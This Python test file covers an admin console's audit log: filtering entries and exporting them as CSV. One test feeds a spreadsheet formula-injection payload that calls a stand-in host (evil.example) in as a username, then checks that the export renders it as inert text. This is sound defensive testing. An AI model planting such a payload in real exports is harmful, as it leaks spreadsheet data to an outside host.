"""The audit log in the console: its filters and export."""

import csv
import io

from tests.console_pages import log_in
from wallet_server.users.models import Role


def test_audit_filters_and_export(console_login, sessions):
    coordinator = console_login(Role.COORDINATOR)
    coordinator.post(
        "/console/participants/new",
        {"name": "Driss K.", "household_size": "2", "enrolled_month": "2026-11"},
    )
    committee = console_login(Role.COMMITTEE)
    committee.post("/console/participants/new", {"name": "Z"})  # refused, audited
    page = committee.get("/console/audit?outcome=refused").get_data(as_text=True)
    assert "denied:console.participant_create" in page
    assert "participant.enroll" not in page
    by_action = committee.get("/console/audit?action=participant").get_data(as_text=True)
    assert "participant.enroll" in by_action
    export = committee.get(f"/console/audit.csv?actor={coordinator.user.username}")
    assert export.headers["Content-Type"].startswith("text/csv")
    rows = list(
        csv.reader(io.StringIO(export.get_data(as_text=True).lstrip("\ufeff")), delimiter=";")
    )
    assert rows[0][:4] == ["at", "actor", "role", "action"]
    assert {row[3] for row in rows[1:]} == {"login", "participant.enroll"}
    manager_page = console_login(Role.COORDINATOR).get(
        "/console/audit?since=2000-01-01&until=2099-12-31"
    )
    assert manager_page.status_code == 200


def test_an_export_never_carries_a_live_formula(console_app, console_login):
    """A stranger's failed login is audited with the name they typed: in the audit export a
    spreadsheet must show it as text, never run it."""
    typed = '=hyperlink("http://evil.example/?"&a1;"x")'
    refused = log_in(console_app.test_client(), typed, "JBSWY3DPEHPK3PXPJBSWY3DP", password="x")
    assert refused.status_code == 401
    export = console_login(Role.COORDINATOR).get("/console/audit.csv?action=login")
    rows = list(
        csv.reader(io.StringIO(export.get_data(as_text=True).lstrip("\ufeff")), delimiter=";")
    )
    actors = [row[1] for row in rows[1:]]
    assert "'" + typed in actors
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
